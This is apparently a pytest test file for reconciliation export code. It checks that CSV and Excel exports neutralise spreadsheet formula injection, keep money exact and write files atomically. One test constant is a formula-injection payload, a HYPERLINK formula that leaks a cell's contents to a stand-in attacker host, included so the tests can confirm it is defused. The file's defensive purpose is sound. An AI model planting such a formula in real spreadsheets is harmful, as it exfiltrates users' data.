"""Reconciliation exports: nothing a provider typed runs as a formula, money stays exact, files land whole."""

import csv
import datetime as dt
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from flows.common.errors import UserError
from flows.pbr.exports import neutralise, write_chart, write_csv, write_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"C-1")'
HEADER = ("claim", "outcome", "achieved on", "amount", "participants")
ROWS = [
    (HYPERLINK, "housed", dt.date(2026, 7, 1), Decimal("1500.5"), 3),
    ("C-2", "-1 month early", dt.date(2026, 7, 2), Decimal("-250"), None),
    ("C-3", "#N/A", dt.date(2026, 7, 3), Decimal("1234567.891"), 0),
]
PNG = b"\x89PNG\r\n\x1a\n"


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=SUM(A1)", "'=SUM(A1)"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("housed for 6 months", "housed for 6 months"),
        ("C-1 = paid", "C-1 = paid"),
        ("", ""),
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text: str, safe: str) -> None:
    assert neutralise(text) == safe


def test_csv_keeps_numbers_as_numbers_and_neutralises_text(tmp_path: Path) -> None:
    path = tmp_path / "reconciliation.csv"
    write_csv(path, HEADER, ROWS)
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") == 4 and raw.endswith(b"\r\n")
    lines = raw.decode("utf-8").split("\r\n")
    assert lines[0] == "claim,outcome,achieved on,amount,participants"
    assert lines[2] == "C-2,'-1 month early,2026-07-02,-250.00,"  # the amount is a number: no apostrophe, no quotes
    assert lines[3] == "C-3,#N/A,2026-07-03,1234567.891,0"  # a rate's third place is kept, never rounded away
    with path.open(newline="", encoding="utf-8") as stream:
        read = list(csv.reader(stream))
    assert read[1] == ["'" + HYPERLINK, "housed", "2026-07-01", "1500.50", "3"]
    assert list(tmp_path.iterdir()) == [path]  # no temporary file left beside it


def test_csv_refuses_a_float_and_leaves_the_old_file_whole(tmp_path: Path) -> None:
    path = tmp_path / "reconciliation.csv"
    path.write_text("the previous export\n")
    with pytest.raises(TypeError, match="float"):
        write_csv(path, ["amount"], [[Decimal("1.00")], [1500.5]])  # type: ignore[list-item]
    assert path.read_text() == "the previous export\n"
    assert list(tmp_path.iterdir()) == [path]


def test_a_folder_that_does_not_exist_is_said_as_a_user_error(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="cannot be written"):
        write_csv(tmp_path / "missing" / "out.csv", ["a"], [])


def test_xlsx_text_is_never_a_formula_and_money_is_a_formatted_number(tmp_path: Path) -> None:
    path = tmp_path / "reconciliation.xlsx"
    payments = [("HF/2026/01", dt.date(2026, 7, 31), Decimal("560000.00"))]
    paid = ("contract", "run on", "paid")
    write_xlsx(path, [("Claims: July", HEADER, ROWS), ("HF/2026/01 payments", paid, payments)])

    book = load_workbook(path)  # not read-only, so styles and sheet views are there to check
    assert book.sheetnames == ["Claims- July", "HF-2026-01 payments"]
    claims = book["Claims- July"]
    assert claims.freeze_panes == "A2"
    assert all(cell.font.bold for cell in claims[1])
    link = claims["A2"]
    assert link.data_type == "s" and link.value == "'" + HYPERLINK
    assert claims["B4"].data_type == "s" and claims["B4"].value == "#N/A"  # text, not Excel's error value
    assert claims["B3"].value == "'-1 month early"
    amount = claims["D2"]
    assert amount.data_type == "n" and amount.value == 1500.5 and amount.number_format == "#,##0.00"
    assert claims["D3"].value == -250
    day = claims["C2"]
    assert day.is_date and day.value == dt.datetime(2026, 7, 1) and day.number_format == "yyyy-mm-dd"
    assert claims["E2"].value == 3 and claims["E3"].value is None
    assert claims.max_row == 4
    assert 8 <= (claims.column_dimensions["A"].width or 0) <= 62
    assert book["HF-2026-01 payments"]["C2"].value == 560000


def test_sheet_titles_are_made_safe_and_unique(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    long = "Reconciliation of outcome payments 2026"
    write_xlsx(path, [(long, ["a"], []), (long, ["a"], []), ("[?*]", ["a"], []), ("", ["a"], [])])
    titles = load_workbook(path, read_only=True).sheetnames
    assert titles == [long[:31], long[:27] + " (2)", "----", "Sheet"]
    assert all(len(title) <= 31 for title in titles)


def test_chart_of_cumulative_payments_against_caps_is_a_png(tmp_path: Path) -> None:
    path = tmp_path / "payments.png"
    series = {
        "HF-2026-01": [(dt.date(2026, 4, 30), Decimal("120000.00")), (dt.date(2026, 6, 30), Decimal("560000.00"))],
        "HF-2026-02": [(dt.date(2026, 5, 31), Decimal("50000.00"))],
    }
    write_chart(path, title="Housing First", series=series, caps={"HF-2026-01": Decimal("1500000")})
    data = path.read_bytes()
    assert data.startswith(PNG) and len(data) > 10_000
    assert list(tmp_path.iterdir()) == [path]


def test_chart_with_no_payments_yet_still_draws_the_caps(tmp_path: Path) -> None:
    path = tmp_path / "payments.png"
    write_chart(path, title="Housing First", series={"HF-2026-01": []}, caps={"HF-2026-01": Decimal("1500000")})
    assert path.read_bytes().startswith(PNG)
    write_chart(path, title="Nothing at all", series={}, caps={})
    assert path.read_bytes().startswith(PNG)


@pytest.mark.parametrize("where", ["/nonexistent/x.xlsx", "full"])
def test_an_xlsx_that_cannot_be_written_is_one_error_and_no_traceback(where: str, tmp_path: Path) -> None:
    import gc
    import sys

    if where == "full":  # a link to /dev/full, which fails every write with ENOSPC; /dev/full itself is never named
        where = str(tmp_path / "full")
        Path(where).symlink_to("/dev/full")

    unraisable: list[object] = []
    hook, sys.unraisablehook = sys.unraisablehook, unraisable.append
    try:
        with pytest.raises(UserError, match=f"^{where}: cannot be written: "):
            write_xlsx(Path(where), [("claims", HEADER, ROWS), ("more", HEADER, ROWS)])
        gc.collect()
    finally:
        sys.unraisablehook = hook
    assert unraisable == []
    assert sorted(p.name for p in tmp_path.iterdir()) == ([] if where.startswith("/nonexistent") else ["full"])
